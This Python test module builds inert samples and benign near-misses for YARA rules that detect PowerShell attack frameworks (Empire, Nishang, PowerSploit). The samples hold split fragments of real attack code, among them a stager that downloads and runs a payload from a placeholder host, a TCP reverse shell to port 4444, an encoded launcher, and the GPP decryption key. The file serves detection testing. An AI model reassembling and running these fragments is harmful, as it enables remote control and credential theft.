"""Inert samples and near-misses for signatures/rules/powershell_tools.yar.

Each sample is a script that ends before its first statement (``exit`` / ``return`` / ``sys.exit``)
and keeps the framework's fragments after it, with a documentation address; the near-misses are
ordinary administration scripts that use the same cmdlets and .NET classes.
"""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, split, text

B64 = (
    "SQBGACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMAVgBlAHIAcwBpAG8AbgAuAE0AYQBqAG8AcgAgAC0AZwBlACAAMwApAHsA"
    * 3
)


def empire_stager() -> dict[str, bytes]:
    return {
        "empire-stager-ps1": text(
            f"exit  # {INERT_NOTE}",
            "$wc=New-Object System.Net.WebClient;"
            "$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';",
            split("$wc.Headers.Add('User-", "Agent',$u);", f"$ser='http://{HOST}:80';$t='/login/process.php';"),
            "$K=[System.Text.Encoding]::ASCII.GetBytes('0123456789abcdef0123456789abcdef');",
            split(
                "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]",
                "+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};",
            ),
            "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};",
            split("$data=$wc.Download", "Data($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];"),
            split("-join[Char[]](& $R $data ", "($IV+$K))|IEX"),
        )
    }


def empire_launcher() -> dict[str, bytes]:
    return {
        "empire-launcher-bat": text(
            "@echo off",
            f"exit /b  REM {INERT_NOTE}",
            split("start /b powershell -noP -sta", " -w 1 -enc  ", B64),
        )
    }


def empire_python() -> dict[str, bytes]:
    return {
        "empire-stager-py": text(
            f"import sys; sys.exit(0)  # {INERT_NOTE}",
            split('import re, subprocess;cmd = "ps -ef | grep Little\\ ', 'Snitch | grep -v grep"'),
            f"import urllib.request;server='http://{HOST}:80';t='/news.php';req=urllib.request.Request(server+t);",
            split("req.add_header('User-", "Agent','Mozilla/5.0');a=urllib.request.urlopen(req).read();"),
            split("IV=data[0", ":4];data=data[4:];key=IV+b'0123456789abcdef';"),
            split("S,j,out=range(256),0,[]", "\nfor i in range(256): pass"),
            split("exec(''.join", "(out))"),
        )
    }


def nishang_tcp() -> dict[str, bytes]:
    return {
        "nishang-invoke-powershelltcp": text(
            f"return  # {INERT_NOTE}",
            split("function Invoke-", "PowerShellTcp"),
            "{",
            f'    $client = New-Object System.Net.Sockets.TCPClient("{HOST}",4444)',
            "    $stream = $client.GetStream()",
            split("    [byte[]]$bytes = 0..65535", "|%{0}"),
            split(
                '    $sendbytes = ([text.encoding]::ASCII).GetBytes("Windows PowerShell running',
                ' as user " + $env:username)',
            ),
            split("    $sendback = (iex $data ", "2>&1 | Out-String )"),
            "}",
        )
    }


def nishang_oneliner() -> dict[str, bytes]:
    return {
        "nishang-oneliner-ps1": text(
            f"exit  # {INERT_NOTE}",
            split(
                "$client = New-Object System.Net.Sockets.TCP", f"Client('{HOST}',4444);$stream = $client.GetStream();"
            ),
            "[byte[]]$bytes = 0..65535|%{0};",
            split("while(($i = $stream.Read($bytes, 0, $bytes.Length)) ", "-ne 0){;"),
            "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);",
            split(
                "$sendback = (iex $data 2>&1 | ", "Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path", " + '> ';"
            ),
            "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length)};",
        )
    }


def nishang_hashes() -> dict[str, bytes]:
    return {
        "nishang-get-passhashes": text(
            f"return  # {INERT_NOTE}",
            split("function Get-", "PassHashes {"),
            split('  $antpassword = [Text.Encoding]::ASCII.GetBytes("NTPASS', 'WORD`0");'),
            split('  $almpassword = [Text.Encoding]::ASCII.GetBytes("LMPASS', 'WORD`0");'),
            "}",
            split("function Get-", "BootKey { }"),
            split("function Get-", "HBootKey { }"),
        )
    }


def powersploit_shellcode() -> dict[str, bytes]:
    return {
        "powersploit-invoke-shellcode": text(
            f"return  # {INERT_NOTE}",
            split("function Invoke-", "Shellcode {"),
            split("  function Local:Inject-", "RemoteShellcode ([Int] $ProcessID) { }"),
            split("  function Local:Inject-", "LocalShellcode { }"),
            "  # " + split("Virtual", "AllocEx") + " " + split("CreateRemote", "Thread"),
            "}",
        )
    }


def powerup() -> dict[str, bytes]:
    return {
        "powersploit-powerup": text(
            f"return  # {INERT_NOTE}",
            split("function Get-", "ModifiableServiceFile { }"),
            split("function Get-", "UnquotedService { }"),
            split("function Write-", "ServiceBinary { }"),
            split("function Install-", "ServiceBinary { }"),
            split("function Write-", "HijackDll { }"),
            split("function Invoke-", "PrivescAudit { }"),
        )
    }


def gpp() -> dict[str, bytes]:
    key = "0x4e,0x99,0x06,0xe8,0xfc,0xb6,0x6c,0xc9,0xfa,0xf4,0x93,0x10,0x62,0x0f,0xfe,0xe8"
    return {
        "powersploit-get-gpppassword": text(
            f"return  # {INERT_NOTE}",
            split("function Get-", "GPPPassword {"),
            split("  function local:Get-", "DecryptedCpassword { [Byte[]] $AesKey = @(", key, ") }"),
            "  $Cpassword = $_.Properties.cpassword",
            "}",
        )
    }


def powerview() -> dict[str, bytes]:
    names = ("Get-DomainUser", "Get-DomainComputer", "Find-DomainShare", "Find-LocalAdminAccess", "Invoke-Kerberoast")
    return {
        "powersploit-powerview": text(
            f"return  # {INERT_NOTE}",
            *(split("function ", n[:4], n[4:], " { }") for n in names),
        )
    }


def near_ad_report() -> dict[str, bytes]:
    return {
        "ad-report-ps1": text(
            "Import-Module ActiveDirectory",
            "function Get-StaleUser { Get-ADUser -Filter * -Properties LastLogonDate }",
            "function Get-StaleComputer { Get-ADComputer -Filter * -Properties LastLogonDate }",
            "function Find-EmptyGroup { Get-ADGroup -Filter * | Where-Object { -not (Get-ADGroupMember $_) } }",
            "function Get-DomainReport { Get-StaleUser; Get-StaleComputer; Find-EmptyGroup }",
        )
    }


def near_admin_tcp() -> dict[str, bytes]:
    return {
        "admin-port-check-ps1": text(
            "function Test-PortOpen {",
            "    param([string]$ComputerName, [int]$Port = 443)",
            "    $client = New-Object System.Net.Sockets.TCPClient",
            "    try { $client.Connect($ComputerName, $Port); $stream = $client.GetStream()",
            "          [byte[]]$buffer = New-Object byte[] 1024",
            "          $stream.Read($buffer, 0, 1024) | Out-Null; return $true }",
            "    catch { return $false } finally { $client.Close() }",
            "}",
            "Invoke-Expression 'Get-Date' 2>&1 | Out-String",
        )
    }


def near_webclient() -> dict[str, bytes]:
    return {
        "admin-download-update-ps1": text(
            "$wc = New-Object System.Net.WebClient",
            "$wc.Headers.Add('User-Agent', 'UpdateChecker/1.0')",
            "$data = $wc.DownloadData('https://updates.example.org/latest.zip')",
            '[IO.File]::WriteAllBytes("$env:TEMP\\latest.zip", $data)',
            "powershell -NoProfile -File .\\install.ps1",
        )
    }


def near_python_updater() -> dict[str, bytes]:
    return {
        "python-updater-py": text(
            "import subprocess, urllib.request",
            "cmd = 'ps -ef | grep updater | grep -v grep'",
            "req = urllib.request.Request('https://updates.example.org/version')",
            "req.add_header('User-Agent', 'updater/2.1')",
            "data = urllib.request.urlopen(req).read()",
            "out = [chr(b) for b in data]",
        )
    }


def near_admin_functions() -> dict[str, bytes]:
    return {
        "admin-service-audit-ps1": text(
            "function Get-ServicePermissionReport { Get-CimInstance Win32_Service | Select Name, PathName }",
            "function Get-UnsignedDriver { Get-CimInstance Win32_PnPSignedDriver | Where { -not $_.IsSigned } }",
            "function Write-AuditLog { param($Message) Add-Content audit.log $Message }",
            "function Invoke-Audit { Get-ServicePermissionReport; Get-UnsignedDriver }",
            "# reads GPO report: no cpassword is stored in our Group Policy Preferences",
        )
    }


SAMPLES: Builders = {
    "Empire_PowerShell_Stager": empire_stager,
    "Empire_PowerShell_Launcher": empire_launcher,
    "Empire_Python_Stager": empire_python,
    "Nishang_Invoke_PowerShellTcp": nishang_tcp,
    "Nishang_PowerShellTcp_OneLiner": nishang_oneliner,
    "Nishang_Get_PassHashes": nishang_hashes,
    "PowerSploit_Invoke_Shellcode": powersploit_shellcode,
    "PowerSploit_PowerUp": powerup,
    "PowerSploit_Get_GPPPassword": gpp,
    "PowerSploit_PowerView": powerview,
}

NEARMISS: Builders = {
    "Empire_PowerShell_Stager": near_webclient,
    "Empire_PowerShell_Launcher": near_webclient,
    "Empire_Python_Stager": near_python_updater,
    "Nishang_Invoke_PowerShellTcp": near_admin_tcp,
    "Nishang_PowerShellTcp_OneLiner": near_admin_tcp,
    "Nishang_Get_PassHashes": near_admin_functions,
    "PowerSploit_Invoke_Shellcode": near_admin_functions,
    "PowerSploit_PowerUp": near_admin_functions,
    "PowerSploit_Get_GPPPassword": near_admin_functions,
    "PowerSploit_PowerView": near_ad_report,
}
